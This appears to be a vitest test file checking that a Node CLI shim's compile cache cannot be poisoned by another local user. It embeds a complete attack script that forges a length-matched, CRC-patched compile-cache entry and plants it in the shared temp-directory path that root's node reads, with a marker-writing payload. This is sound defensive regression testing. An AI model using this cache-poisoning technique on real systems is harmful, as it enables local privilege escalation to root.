import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileCacheDir } from "../src/compile-cache.js";

const CLI = fileURLToPath(new URL("../dist/cli.js", import.meta.url));
const WORKER_CLI = realpathSync(join(createRequire(import.meta.url).resolve("@iii/worker/package.json"), "..", "dist", "cli.js"));
const NOBODY = 65534;
const isRoot = process.geteuid?.() === 0;
let dir: string;

/** The environment without Node's and XDG's cache variables: each test says where the cache may go. */
function cleanEnv(extra: Record<string, string>): NodeJS.ProcessEnv {
  const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !/^(NODE_|XDG_|VITEST|TMPDIR$|HOME$)/.test(k)));
  return { ...env, ...extra };
}

// The attacker, an unprivileged local user: compiles a payload of the target's length under a cache of its own,
// sets the entry's source CRC32 to the target's (all Node checks besides the length), and plants it where root's
// node looks by default: $TMPDIR/node-compile-cache/<version>-0/<key>, in a directory the attacker created first.
const ATTACK = String.raw`
const fs = require("fs"), z = require("zlib"), path = require("path"), cp = require("child_process");
const [target, shared, work, marker] = process.argv.slice(2);
const src = fs.readFileSync(target);
let evil = 'if (process.getuid() === 0) process.getBuiltinModule("fs").writeFileSync(' + JSON.stringify(marker) + ', "code of uid 65534 ran as root\\n");\n';
evil += "//" + " ".repeat(src.length - evil.length - 3) + "\n";
fs.writeFileSync(path.join(work, "evil.mjs"), evil);
const compile = (file, cache) => cp.spawnSync(process.execPath, ["--input-type=module", "-e",
  "(await import('node:module')).enableCompileCache(" + JSON.stringify(cache) + "); try { await import(" + JSON.stringify(file) + "); } catch {}"],
  { env: { ...process.env, NODE_DEBUG_NATIVE: "COMPILE_CACHE" }, encoding: "utf8", cwd: work });
// The entry's name is a CRC of the module's path: read it from node's own debug output for the target.
const key = /reading cache from \S+\/([0-9a-f]{8}) for ESM file:\/\/\S*cli\.js/.exec(compile(target, path.join(work, "probe")).stderr)[1];
compile(path.join(work, "evil.mjs"), path.join(work, "cc"));
const version = fs.readdirSync(path.join(work, "cc"))[0];
const entries = fs.readdirSync(path.join(work, "cc", version));
const entry = fs.readFileSync(path.join(work, "cc", version, entries[0]));
entry.writeUInt32LE(z.crc32(src), 12);
const rootDir = path.join(shared, version.replace(/-\d+$/, "-0"));
fs.mkdirSync(rootDir, { recursive: true });
fs.writeFileSync(path.join(rootDir, key), entry);
`;

beforeAll(() => {
  dir = mkdtempSync("/tmp/iii-engine-cc-");
  chmodSync(dir, 0o755);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("the shim's compile cache", () => {
  it.skipIf(!isRoot)("never loads code another local user planted in $TMPDIR/node-compile-cache", () => {
    const tmp = join(dir, "tmp");
    const home = join(dir, "root-home");
    const work = join(dir, "attacker");
    const marker = join(dir, "planted-code-ran");
    mkdirSync(tmp, { mode: 0o1777 });
    chmodSync(tmp, 0o1777);
    mkdirSync(home, { mode: 0o700 });
    mkdirSync(work);
    chmodSync(work, 0o777);
    writeFileSync(join(work, "attack.cjs"), ATTACK);
    const attack = spawnSync("setpriv", [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups", process.execPath, join(work, "attack.cjs"), WORKER_CLI, join(tmp, "node-compile-cache"), work, marker], {
      env: cleanEnv({ HOME: work, TMPDIR: work }),
      encoding: "utf8",
    });
    expect(attack.status, attack.stderr).toBe(0);
    expect(statSync(join(tmp, "node-compile-cache")).uid).toBe(NOBODY);

    const run = spawnSync(process.execPath, [CLI, "worker", "--version"], { env: cleanEnv({ HOME: home, TMPDIR: tmp }), encoding: "utf8" });
    expect(existsSync(marker) ? readFileSync(marker, "utf8") : "no planted code ran").toBe("no planted code ran");
    expect(run.stdout).toMatch(/\d+\.\d+\.\d+/);
    // The cache went to root's own, private directory instead.
    const cache = join(home, ".cache", "iii", "node-compile-cache");
    expect(statSync(cache).mode & 0o777).toBe(0o700);
  });

  it("uses a private directory of this user's, and nothing someone else owns or can write", () => {
    const uid = process.geteuid!();
    const mine = join(dir, "mine");
    mkdirSync(mine, { mode: 0o700 });
    expect(compileCacheDir({ XDG_CACHE_HOME: mine }, uid)).toBe(join(realpathSync(mine), "iii", "node-compile-cache"));
    expect(statSync(join(mine, "iii", "node-compile-cache")).mode & 0o777).toBe(0o700);
    // A cache directory other users can write: refused (and left as it is).
    const shared = join(dir, "shared");
    mkdirSync(join(shared, "iii", "node-compile-cache"), { recursive: true });
    chmodSync(join(shared, "iii", "node-compile-cache"), 0o777);
    expect(compileCacheDir({ XDG_CACHE_HOME: shared }, uid)).toBeUndefined();
    // A parent other users can write without the sticky bit: they could swap the directory.
    const open = join(dir, "open");
    mkdirSync(open);
    chmodSync(open, 0o777);
    expect(compileCacheDir({ XDG_CACHE_HOME: open }, uid)).toBeUndefined();
    expect(existsSync(join(open, "iii"))).toBe(false);
    // Another user's tree (as `sudo` keeping that user's HOME looks to root): refused, nothing created there.
    if (uid === 0) {
      const theirs = join(dir, "theirs");
      mkdirSync(theirs, { mode: 0o755 });
      spawnSync("chown", [`${NOBODY}:${NOBODY}`, theirs]);
      expect(compileCacheDir({ XDG_CACHE_HOME: theirs }, 0)).toBeUndefined();
      expect(existsSync(join(theirs, "iii"))).toBe(false);
    }
    // The user's own NODE_COMPILE_CACHE (Node already honoured it) and NODE_DISABLE_COMPILE_CACHE are left alone.
    expect(compileCacheDir({ XDG_CACHE_HOME: mine, NODE_COMPILE_CACHE: "/x" }, uid)).toBeUndefined();
    expect(compileCacheDir({ XDG_CACHE_HOME: mine, NODE_DISABLE_COMPILE_CACHE: "1" }, uid)).toBeUndefined();
  });
});
